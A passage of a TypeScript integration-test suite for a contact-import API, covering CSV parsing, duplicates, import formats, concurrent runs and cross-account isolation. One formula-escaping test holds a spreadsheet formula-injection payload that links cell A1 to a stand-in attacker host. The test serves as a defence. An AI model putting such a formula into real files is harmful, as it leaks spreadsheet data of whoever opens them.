        assert.deepEqual(problemOf(await keyed(id, 'lasting', TWO)), [
          409,
          'urn:stentor:problem:idempotency-key-running',
        ])
      }
      upload.end()
      const [answer] = await once(upload, 'response')
      const started = await answer.setEncoding('utf8').toArray()
      const again = await keyed(id, 'lasting', lines.join(''))
      assert.deepEqual([again.headers['idempotent-replayed'], again.text], ['true', started.join('')])
      await runImport(context, { execution: again.body.id })
    })

    for (const [what, method, path] of [
      ['an upload', 'PUT', 'source'],
      ['the file of a run', 'POST', 'executions'],
    ] as const) {
      test(`${what} ends with 404 when its import is deleted meanwhile, and leaves no file`, async () => {
        const id = await makeImport()
        assert.equal((await call('PUT', `/imports/${id}/source`, { body: TWO, headers: CSV })).status, 200)
        const upload = sending(method, `/imports/${id}/${path}`, { 'content-length': 200_000 }, own.key)
        upload.write('Email\n'.padEnd(100_000, 'x'))
        await holds(id, 2)
        assert.equal((await call('DELETE', `/imports/${id}`)).status, 204)
        upload.end('x'.repeat(100_000))
        const [answer] = await once(upload, 'response')
        answer.resume()
        assert.equal(answer.statusCode, 404)
        await assert.rejects(readdir(join(dataDir, 'imports', String(own.account), String(id))))
      })
    }
  })

  test('uploads concurrent with the deletion of their import end in 200 or 404 and leave no file', async () => {
    for (let round = 0; round < 20; round++) {
      const id = await makeImport()
      const put = () => call('PUT', `/imports/${id}/source`, { body: TWO, headers: CSV })
      const [deleted, ...uploads] = await Promise.all([call('DELETE', `/imports/${id}`), put(), put(), put()])
      assert.equal(deleted?.status, 204, deleted?.text)
      for (const { status, text } of uploads) assert.ok(status === 200 || status === 404, text)
      await assert.rejects(readdir(join(dataDir, 'imports', String(own.account), String(id))))
    }
  })

  test('a new upload does not change the file of the run in progress', async () => {
    const id = await makeImport()
    const execution = await start(id, 'Email\nbefore@example.org\n')
    const later = await call('PUT', `/imports/${id}/source`, { body: 'Email\nlater@example.org\n', headers: CSV })
    assert.equal(later.status, 200)
    await runImport(context, { execution })
    assert.equal((await call('GET', '/targets?unicity=before@example.org')).status, 200)
    assert.equal((await call('GET', '/targets?unicity=later@example.org')).status, 404)
  })

  test('refuses a truncated form and leaves nothing behind', async () => {
    const id = await makeImport()
    const answer = await call('PUT', `/imports/${id}/source`, {
      body: '--b\r\nContent-Disposition: form-data; name="data"; filename="x.csv"\r\n\r\nEmail\nx@example.org',
      headers: { 'content-type': 'multipart/form-data; boundary=b' },
    })
    assert.equal(answer.status, 400)
    assert.deepEqual(await readdir(join(dataDir, 'imports', String(own.account), String(id))), [])
  })

  test('reads a gzip file, CR line breaks and quotes', async () => {
    const id = await makeImport()
    const csv = gzipSync('Email,Name\r"gz1@example.org","Ann, ""the"" first"\rgz2@example.org,Bob')
    const { body } = await call('POST', `/imports/${id}/executions`, {
      body: csv,
      headers: {
        'content-type': 'application/gzip',
        'content-disposition': "attachment; filename*=UTF-8''p%C3%A9.csv.gz",
      },
    })
    assert.match(body.source.filename, /_pé\.csv\.gz$/)
    await runImport(context, { execution: body.id })
    assert.equal(await nameOf('gz1@example.org'), 'Ann, "the" first')
    assert.equal(await nameOf('gz2@example.org'), 'Bob')
  })

  /** What the fields of every contact of an account hold, by its address. */
  async function people(key: string): Promise<Map<string, unknown[]>> {
    const { body: fields } = await call('GET', '/fields', { key })
    const { body: contacts } = await call('GET', '/targets', { key })
    return new Map(
      contacts.map((one: { fields: Record<string, unknown> }) => {
        const values = fields.map(({ id }: { id: number }) => one.fields[id])
        return [values[0], values]
      }),
    )
  }

  async function imported(code: string, file: Buffer): Promise<Map<string, unknown[]>> {
    const { key } = await sampleAccount(code)
    const { state, created, rejected } = await run(await makeImport({}, key), file, key)
    assert.deepEqual({ state, rejected }, { state: 1, rejected: 0 })
    const found = await people(key)
    assert.equal(found.size, created)
    return found
  }

  test('reads three encodings, three separators and an archive as the same contacts', {
    skip: noSharedData,
  }, async () => {
    const file = readFileSync(join(SHARED_DATA, 'contacts-300-windows-1252.csv'))
    const text = new TextDecoder('windows-1252').decode(file)
    assert.ok(!text.includes(','))
    const tabs = Buffer.from(text.replaceAll(';', '\t'), 'utf16le')
    const plain = await imported('ENCO001', file)
    assert.equal(plain.size, 300)
    assert.deepEqual(await imported('ENCO002', tabs), plain)
    assert.deepEqual(await imported('ENCO003', gzipSync(text.replaceAll(';', ','))), plain)
  })

  test('reads the samples in other encodings as the same people as in the large sample', {
    skip: noSharedData,
  }, async () => {
    const all = await imported('ENCO004', readFileSync(join(SHARED_DATA, 'contacts-10k.csv')))
    assert.equal(all.size, 10_000)
    for (const [index, name] of ['contacts-300-windows-1252.csv', 'contacts-300-utf16-tab.csv'].entries()) {
      const some = await imported(`ENCO01${index}`, readFileSync(join(SHARED_DATA, name)))
      assert.equal(some.size, 300)
      for (const [address, values] of some) assert.deepEqual(values, all.get(address))
    }
  })
})

suite('imports › lines', () => {
  test('imports the messy file exactly as expected', async () => {
    const { key, fields } = await sampleAccount('MESS001')
    const id = await makeImport({}, key)
    const execution = await run(id, readFileSync(join(IMPORT_FILES, 'contacts-messy.csv')), key)
    assert.deepEqual(counts(execution), { ...NONE, created: 14, rejected: 10, duplicates: 1 })
    assert.deepEqual(
      (await rejects(id, execution.id, key)).map((row) => row.split(';').slice(0, 3).join(';')),
      [
        '3;unicity-missing;Email',
        '4;invalid-value;Email',
        '6;invalid-value;Mobile',
        '7;invalid-value;Birth date',
        '10;unknown-label;Title',
        '12;unknown-label;Tastes',
        '14;invalid-value;Spent',
        '18;duplicate;Email',
        '24;too-long;First name',
        '26;invalid-value;Email',
        '27;invalid-value;Email',
      ],
    )
    const value = async (unicity: string, field: string) => (await contact(unicity, key)).fields[fields[field] ?? 0]
    assert.equal((await contact('messy4@example.com', key)).fields[fields['Email'] ?? 0], 'Messy4@example.com')
    assert.equal(await value('messy7@example.com', 'Birth date'), '1990-02-01T00:00:00.000Z')
    assert.equal(await value('messy8@example.com', 'Title'), 'Mr')
    assert.deepEqual(await value('messy10@example.com', 'Tastes'), ['Wine', 'Books'])
    assert.equal(await value('messy12@example.com', 'Spent'), 1234.5)
    assert.equal(await value('messy14@example.com', 'Last name'), 'He said "hi"; left')
    assert.equal(await value('messy15@example.com', 'Last name'), 'two\r\nlines')
    assert.equal(await value('messy1@example.com', 'Last name'), 'Line 1')
    assert.equal(await value('messy16@example.com', 'First name'), '=HYPERLINK("x")')
    assert.equal(await value('messy17@example.com', 'Spent'), null)
    assert.equal(await value('messy18@example.com', 'Opt-in'), 'yes')
    assert.equal(await value('messy19@example.com', 'First name'), '𝒵oé 👩‍🚀')
    assert.equal(await value('ünïcode@xn--huser-gra.example', 'Mobile'), '+33612345620')
  })

  test('ends in state 2 without a unicity column and writes nothing', async () => {
    const id = await makeImport()
    const execution = await run(id, 'Name;Other\nNobody;x\n')
    assert.equal(execution.state, 2)
    assert.equal(execution.error.type, 'unicity-not-bound')
    assert.deepEqual(counts(execution), NONE)
    const binary = await run(await makeImport(), Buffer.from([0x89, 0x50, 0x4e, 0x47, 0, 1, 2, 3]))
    assert.equal(binary.error.type, 'unicity-not-bound')
  })

  test('warns about columns that name no field', async () => {
    const execution = await run(await makeImport(), 'Email;Shoe size\nwarned@example.org;44\n')
    assert.equal(execution.state, 1)
    assert.equal(execution.warnings.length, 1)
    assert.match(execution.warnings[0], /"Shoe size"/)
  })

  test('escapes formulas in the rejects file, in column names and in cells', async () => {
    const { body: field } = await call('POST', '/fields', { body: { type: 'numeric', name: '=Sum' } })
    const id = await makeImport()
    const cell = '"=HYPERLINK(""https://evil.example/?""&A1;""look"")"'
    const execution = await run(id, `Email;${field.id}\n@no address;${cell}\n-bad;+x\n`)
    const { text } = await call('GET', `/imports/${id}/executions/${execution.id}/rejects`)
    assert.equal(
      text,
      [
        'line;reason;column;content',
        "2;invalid-value;Email;'@no address",
        `2;invalid-value;'=Sum;"'=HYPERLINK(""https://evil.example/?""&A1;""look"")"`,
        "3;invalid-value;Email;'-bad",
        "3;invalid-value;'=Sum;'+x",
        '',
      ].join('\n'),
    )
  })

  test('lists every fault of a line in a valid CSV file', async () => {
    const { body: field } = await call('POST', '/fields', { body: { type: 'numeric', name: 'Size;"big"' } })
    const id = await makeImport()
    const execution = await run(id, `Email;${field.id}\nno address;"a;b"\n`)
    assert.deepEqual(counts(execution), { ...NONE, rejected: 1 })
    const answer = await call('GET', `/imports/${id}/executions/${execution.id}/rejects`)
    assert.equal(answer.headers['content-type'], 'text/csv; charset=utf-8')
    assert.equal(
      answer.text,
      'line;reason;column;content\n2;invalid-value;Email;no address\n2;invalid-value;"Size;""big""";"a;b"\n',
    )
  })

  const duplicates = ['A', 'B', 'C'].map((name) => `same@example.org;${name}\n`).join('')
  for (const [rule, kept, listed] of [
    ['first', 'A', 2],
    ['ignore', 'A', 0],
    ['last', 'C', 2],
  ] as const) {
    for (const known of [false, true]) {
      test(`of three lines with the same key, "${rule}" keeps ${kept} for a ${known ? 'known' : 'new'} contact`, async () => {
        const { key } = await makeAccount(`DUP${rule.slice(0, 1).toUpperCase()}00${Number(known)}`)
        const { body: field } = await call('POST', '/fields', { body: { type: 'textField', name: 'Name' }, key })
        if (known) await call('POST', '/targets', { body: { Email: 'same@example.org' }, key })
        const id = await makeImport({ features: [{ type: 'duplicate', rules: { [rule]: true } }] }, key)
        const filler = Array.from({ length: 2 * BATCH }, (_, n) => `filler${n}@example.org;x\n`).join('')
        const csv = `Email;Name\n${duplicates.slice(0, 19)}${filler}SAME@example.org;B\nsame@EXAMPLE.org;C\n`
        const execution = await run(id, csv, key, BATCH)
        assert.equal(execution.state, 1)
        assert.deepEqual(counts(execution), {
          ...NONE,
          created: 2 * BATCH + Number(!known),
          updated: Number(known),
          duplicates: 2,
        })
        const sum = Object.values(counts(execution)).reduce((total: number, one) => total + Number(one), 0)
        assert.deepEqual([sum, execution.progress.lines], [2 * BATCH + 3, 2 * BATCH + 3])
        assert.equal((await contact('same@example.org', key)).fields[field.id], kept)
        assert.equal((await rejects(id, execution.id, key)).length, listed)
      })
    }
  }

  test('applies updateExisting and crushData, and adds known contacts to the segment', async () => {
    const segment = await makeSegment()
    const features = (database: object) => [
      { type: 'segmentation', segmentId: segment },
      { type: 'database', ...database },
    ]
    const id = await makeImport()
    await run(id, 'Email;Name\nkept@example.org;Old\nfilled@example.org;Old\n')
    const again = 'Email;Name\nkept@example.org;\nfilled@example.org;New\n'
    await call('PUT', `/imports/${id}`, { body: { features: features({ updateExisting: false }) } })
    assert.deepEqual(counts(await run(id, again)), { ...NONE, skipped: 2 })
    assert.deepEqual([await nameOf('kept@example.org'), await nameOf('filled@example.org')], ['Old', 'Old'])
    assert.equal(await members(segment), 2)
    await call('PUT', `/imports/${id}`, { body: { features: features({}) } })
    assert.deepEqual(counts(await run(id, again)), { ...NONE, updated: 1, skipped: 1 })
    assert.deepEqual([await nameOf('kept@example.org'), await nameOf('filled@example.org')], ['Old', 'New'])
    await call('PUT', `/imports/${id}`, { body: { features: features({ crushData: true }) } })
    assert.deepEqual(counts(await run(id, again)), { ...NONE, updated: 1, skipped: 1 })
    assert.deepEqual([await nameOf('kept@example.org'), await nameOf('filled@example.org')], [null, 'New'])
  })

  test('keeps the stored spelling of a known contact', async () => {
    const id = await makeImport()
    await run(id, 'Email\nSpelled@example.org\n')
    assert.deepEqual(counts(await run(id, 'Email\nSPELLED@example.org\n')), { ...NONE, skipped: 1 })
    assert.ok((await contact('spelled@example.org')).fields[1] === 'Spelled@example.org')
  })

  test('adds the contacts to the red lists', async () => {
    const id = await makeImport({ features: [{ type: 'redList', destination: { mail: true, sms: true } }] })
    await run(id, 'Email\nlisted@example.org\nno address\n')
    const { redList } = await contact('listed@example.org')
    assert.equal(redList.mail.reason, 2)
    assert.equal(redList.sms.reason, 2)
    const { body } = await call('GET', '/targets/redlist/mail')
    assert.deepEqual(body.at(-1).detail, { importId: id })
  })

  test('clears the bounce flag of a changed address', async () => {
    const { body: phone } = await call('POST', '/fields', { body: { type: 'phone', name: 'Phone' } })
    const id = await makeImport()
    await run(id, 'Email;Phone\nflagged@example.org;0612345678\n')
    const { id: target } = await contact('flagged@example.org')
    assert.equal((await call('PUT', `/targets/${target}/bounces/${phone.id}`)).status, 204)
    await run(id, 'Email;Phone\nflagged@example.org;06 12 34 56 78\n')
    assert.equal((await contact('flagged@example.org')).bounce.length, 1)
    await run(id, 'Email;Phone\nflagged@example.org;0698765432\n')
    assert.equal((await contact('flagged@example.org')).bounce.length, 0)
  })
})

suite('imports › formats', () => {
  test('reads numbers and dates of a column as its bind says, and returns the choice', async () => {
    const field = async (name: string, type: string): Promise<number> =>
      (await call('POST', '/fields', { body: { name, type } })).body.id
    const [spent, since] = [await field('Bound spent', 'numeric'), await field('Bound since', 'date')]
    const binds = [
      { columnIndex: 0, fieldId: 1 },
      { columnIndex: 1, fieldId: spent, decimalMark: 'comma' },
      { columnIndex: 2, fieldId: since, dateUnit: 'seconds' },
    ]
    const { body: format } = await call('POST', '/importFormats', { body: { name: 'Readings', binds } })
    assert.deepEqual(format.binds, binds)
    const id = await makeImport({ binding: format.identifier.guid })
    const execution = await run(id, 'a;b;c\nreadings@example.org;1,234;1704067200\n')
    assert.deepEqual([execution.warnings, execution.content.bindings.binds], [[], binds])
    const { fields } = (await call('GET', '/targets?unicity=readings@example.org')).body
    assert.deepEqual([fields[spent], fields[since]], [1.234, '2024-01-01T00:00:00.000Z'])
    const url = `/importFormats/${format.identifier.guid}`
    const plain = binds.map(({ columnIndex, fieldId }) => ({ columnIndex, fieldId }))
    assert.deepEqual((await call('PUT', url, { body: { binds: plain } })).body.binds, plain)
  })

  test('reads the columns that a format binds and skips the lines before its start', async () => {
    const { body: format, text } = await call('POST', '/importFormats', {
      body: {
        name: 'Pipes',
        separator: 124,
        startAt: 2,
        binds: [
          { columnIndex: 1, fieldId: 1 },
          { columnIndex: 0, fieldId: nameField.id },
          { columnIndex: 2, fieldId: -10 },
        ],
      },
    })
    assert.ok(format, text)
    const id = await makeImport({ binding: format.identifier.guid })
    const execution = await run(id, 'a title|\nsome|names\nBound|bound@example.org|x;y\n')
    assert.deepEqual(counts(execution), { ...NONE, created: 1 })
    assert.deepEqual(execution.content.bindings.binds, format.binds)
    assert.equal(await nameOf('bound@example.org'), 'Bound')
    const used = await call('DELETE', `/importFormats/${format.identifier.guid}`)
    assert.equal(used.status, 409)
    assert.deepEqual(used.body.links, [{ type: 'import', id, name: `Import ${named}` }])
    await call('PUT', `/imports/${id}`, { body: { binding: null } })
    assert.equal((await call('DELETE', `/importFormats/${format.identifier.guid}`)).status, 204)
  })

  test('ends in state 2 when the binding lacks the unicity', async () => {
    const { body: format } = await call('POST', '/importFormats', {
      body: { name: 'Nameless', binds: [{ columnIndex: 0, fieldId: nameField.id }] },
    })
    const execution = await run(await makeImport({ binding: format.identifier.guid }), 'Name\nNobody\n')
    assert.equal(execution.state, 2)
    assert.equal(execution.error.type, 'unicity-not-bound')
  })

  test('refuses duplicate columns or fields, unknown fields and taken names', async () => {
    const post = (binds: object[], name = 'Wrong') => call('POST', '/importFormats', { body: { name, binds } })
    const once = { columnIndex: 0, fieldId: 1 }
    assert.equal((await post([once, { columnIndex: 0, fieldId: nameField.id }])).status, 400)
    assert.equal((await post([once, { columnIndex: 1, fieldId: 1 }])).status, 400)
    assert.equal((await post([{ columnIndex: 0, fieldId: 999_999 }])).status, 400)
    assert.equal((await post([once], 'Taken')).status, 200)
    assert.equal((await post([once], 'tAKEN')).status, 409)
  })

  test('lists only saved formats and shows the others by id', async () => {
    const { body } = await call('POST', '/importFormats', {
      body: { name: 'Once', binds: [{ columnIndex: 0, fieldId: 1 }], savedImportFormat: false },
    })
    const id = body.identifier.guid
    assert.deepEqual((await call('GET', `/importFormats/${id}`)).body, body)
    const { body: listed } = await call('GET', '/importFormats')
    assert.ok(!listed.some((one: typeof body) => one.identifier.guid === id))
  })
})

suite('imports › runs', () => {
  const many = (count: number, from = 0) =>
    `Email;Name\n${Array.from({ length: count }, (_, n) => `many${from + n}@example.org;x\n`).join('')}`

  test('allows one run at a time per import, and a refused second start changes nothing', async () => {
    const id = await makeImport()
    const execution = await start(id, TWO)
    const source = (await call('GET', `/imports/${id}`)).body.source
    assert.equal((await call('POST', `/imports/${id}/executions`, { body: TWO, headers: CSV })).status, 409)
    const twice = await call('POST', `/imports/${id}/executions`, { body: { name: 'Renamed' } })
    assert.equal(twice.status, 409)
    assert.equal((await call('GET', `/imports/${id}`)).body.name, `Import ${named}`)
    assert.deepEqual((await call('GET', `/imports/${id}`)).body.source, source)
    await runImport(context, { execution })
    assert.equal((await call('DELETE', `/imports/${id}`)).status, 204)
  })

  test("a deletion succeeds if the import's run ends in time, and is refused with 409 otherwise", async () => {
    const [ending, waiting] = [await makeImport(), await makeImport()]
    const execution = await start(ending, TWO)
    const other = await start(waiting, TWO)
    const deletions = [ending, waiting].map((id) => call('DELETE', `/imports/${id}`))
    await runImport(context, { execution })
    const [deleted, refused] = await Promise.all(deletions)
    assert.deepEqual(
      [deleted?.status, refused?.status, refused?.body.type],
      [204, 409, 'urn:stentor:problem:import-running'],
    )
    assert.equal((await call('GET', `/imports/${ending}`)).status, 404)
    await runImport(context, { execution: other })
    assert.equal((await call('GET', `/imports/${waiting}/executions/${other}`)).body.state, 1)
  })

  test('a stopped run resumes and counts nothing twice', async () => {
    const { key } = await makeAccount('STOP001')
    await call('POST', '/fields', { body: { type: 'textField', name: 'Name' }, key })
    const segment = await makeSegment(key)
    for (const rule of ['first', 'last']) {
      const id = await makeImport(
        {
          features: [
            { type: 'segmentation', segmentId: segment },
            { type: 'duplicate', rules: { [rule]: true } },
          ],
        },
        key,
      )
      const csv = `${many(240)}many5@example.org;again\nno address;x\nmany239@example.org;y\n`
      const execution = await start(id, csv, key)
      let stops = 0
      for (let state = 0; state === 0; stops++) {
        assert.ok(stops < 20)
        await runImport(context, { execution, batchLines: BATCH }, stopAfterOneBatch())
        const { body } = await call('GET', `/imports/${id}/executions/${execution}`, { key })
        state = body.state
        const seen = Object.values(counts(body)).reduce((sum: number, n) => sum + Number(n), 0)
        assert.equal(seen, body.progress.lines)
      }
      assert.equal(stops, rule === 'last' ? 6 : 3)
      const { body } = await call('GET', `/imports/${id}/executions/${execution}`, { key })
      assert.equal(body.state, 1)
      const expected = { first: { created: 240 }, last: { updated: 2, skipped: 238 } }[rule]
      assert.deepEqual(counts(body), { ...NONE, ...expected, rejected: 1, duplicates: 2 })
      assert.equal((await call('GET', '/targets/count', { key })).body.targetsCount, 240)
      assert.equal(await members(segment, key), 240)
    }
  })

  /** A signal that lets one batch pass. */
  function stopAfterOneBatch(): AbortSignal {
    let asked = 0
    return Object.defineProperty(new AbortController().signal, 'aborted', { get: () => asked++ > 0 })
  }

  test('two concurrent processes do the work of an execution once', async () => {
    const { key } = await makeAccount('TWIN001')
    const id = await makeImport({}, key)
    const execution = await start(id, many(6000), key)
    await Promise.all([runImport(context, { execution }), runImport(context, { execution })])
    const { body } = await call('GET', `/imports/${id}/executions/${execution}`, { key })
    assert.deepEqual(counts(body), { ...NONE, created: 6000 })
  })

  test('a cancelled run ends in state 2 and keeps its committed batches', async () => {
    const id = await makeImport()
    const execution = await start(id, many(20))
    const url = `/imports/${id}/executions/${execution}`
    assert.equal((await call('DELETE', url)).status, 204)
    await runImport(context, { execution })
    const { body } = await call('GET', url)
    assert.equal(body.state, 2)
    assert.equal(body.error.type, 'cancelled')
    assert.notEqual(body.endDate, null)
    assert.equal((await call('DELETE', url)).status, 409)
    assert.equal((await run(id, TWO)).state, 1)
  })

  test('runs two imports of an account at a time, and the others wait', async () => {
    const { account, key } = await makeAccount('TURN001')
    const locks = await Promise.all(
      [1, 2].map((n) => lockImportRun(context.pool, { id: -n, account, cancelled: false })),
    )
    assert.ok(locks.every((lock) => lock !== undefined))
    const state = async (id: number) => (await call('GET', `/imports/${id}/executions`, { key })).body.state
    const [waiting, given] = [await makeImport({}, key), await makeImport({}, key)]
    const execution = await start(waiting, TWO, key)
    await runImport(context, { execution })
    assert.equal(await state(waiting), 0)
    const cancelled = await start(given, TWO, key)
    assert.equal((await call('DELETE', `/imports/${given}/executions/${cancelled}`, { key })).status, 204)
    await runImport(context, { execution: cancelled })
    assert.equal(await state(given), 2)
    await Promise.all(locks.map((lock) => lock?.release()))
    await runImport(context, { execution })
    assert.equal(await state(waiting), 1)
  })

  test('replaces the members of a segment at the end, and keeps them when the run fails', async () => {
    const { key } = await makeAccount('SWAP001')
    await call('POST', '/fields', { body: { type: 'textField', name: 'Name' }, key })
    const segment = await makeSegment(key)
    const feature = (emptied: boolean) => [{ type: 'segmentation', segmentId: segment, emptyExisitingSegment: emptied }]
    const id = await makeImport({ features: feature(false) }, key)
    await run(id, many(10), key)
    assert.equal(await members(segment, key), 10)
    await call('PUT', `/imports/${id}`, { body: { features: feature(true) }, key })
    const execution = await start(id, many(2 * BATCH, 5), key)
    await runImport(context, { execution, batchLines: BATCH }, stopAfterOneBatch())
    assert.equal(await members(segment, key), 10)
    await call('DELETE', `/imports/${id}/executions/${execution}`, { key })
    await runImport(context, { execution })
    assert.equal((await call('GET', `/imports/${id}/executions/${execution}`, { key })).body.state, 2)
    assert.equal(await members(segment, key), 10)
    assert.equal((await run(id, many(4, 8), key)).state, 1)
    assert.equal(await members(segment, key), 4)
    assert.equal((await call('GET', `/segments/${segment}`, { key })).body.targetsCount, 4)
  })

  test('reads the lines with the current fields when these change during a run', async () => {
    const { key } = await makeAccount('CHNG001')
    const { body: field } = await call('POST', '/fields', { body: { type: 'textField', name: 'Name' }, key })
    const id = await makeImport({}, key)
    const execution = await start(id, many(40 * BATCH), key)
    await runImport(context, { execution, batchLines: BATCH }, stopAfterOneBatch())
    const running = runImport(context, { execution, batchLines: BATCH })
    await call('PUT', `/fields/${field.id}`, {
      body: { constraint: { operator: 1, value: '3' } },
      key,
    })
    await running
    const { body } = await call('GET', `/imports/${id}/executions/${execution}`, { key })
    assert.equal(body.state, 1)
    assert.equal(body.progress.lines, 40 * BATCH)
    assert.equal(body.created + body.rejected, 40 * BATCH)
    assert.ok(body.rejected > 0)
  })
})

suite("imports › another account's imports", () => {
  test('are unknown to every operation', async () => {
    const id = await makeImport({}, other.key)
    const execution = await start(id, TWO, other.key)
    const { body: format } = await call('POST', '/importFormats', {
      body: {
        name: 'Theirs',
        binds: [{ columnIndex: 0, fieldId: (await call('GET', '/fields', { key: other.key })).body[0].id }],
      },
      key: other.key,
    })
    const requests: [string, string, (string | object)?][] = [
      ['GET', `/imports/${id}`],
      ['PUT', `/imports/${id}`, { name: 'Mine' }],
      ['DELETE', `/imports/${id}`],
      ['PUT', `/imports/${id}/source`, TWO],
      ['POST', `/imports/${id}/executions`, TWO],
      ['POST', `/imports/${id}/executions`, {}],
      ['GET', `/imports/${id}/executions`],
      ['GET', `/imports/${id}/executions/${execution}`],
      ['GET', `/imports/${id}/executions/${execution}/rejects`],
      ['DELETE', `/imports/${id}/executions/${execution}`],
      ['GET', `/importFormats/${format.identifier.guid}`],
      ['PUT', `/importFormats/${format.identifier.guid}`, { name: 'Mine' }],
      ['DELETE', `/importFormats/${format.identifier.guid}`],
      ['POST', '/imports', { name: 'x', binding: format.identifier.guid }],
    ]
    for (const [method, url, body] of requests) {
      const answer = await call(method, url, { body, headers: typeof body === 'string' ? CSV : {} })
      assert.equal(answer.status, 404, `${method} ${url}: ${answer.text}`)
    }
    assert.ok(!(await call('GET', '/imports')).body.some((one: { id: number }) => one.id === id))
    assert.equal((await call('GET', `/imports/${id}/executions/${execution}`, { key: other.key })).body.state, 0)
    await runImport(context, { execution })
    assert.equal((await call('GET', `/imports/${id}/executions/${execution}`, { key: other.key })).body.created, 2)
  })
})
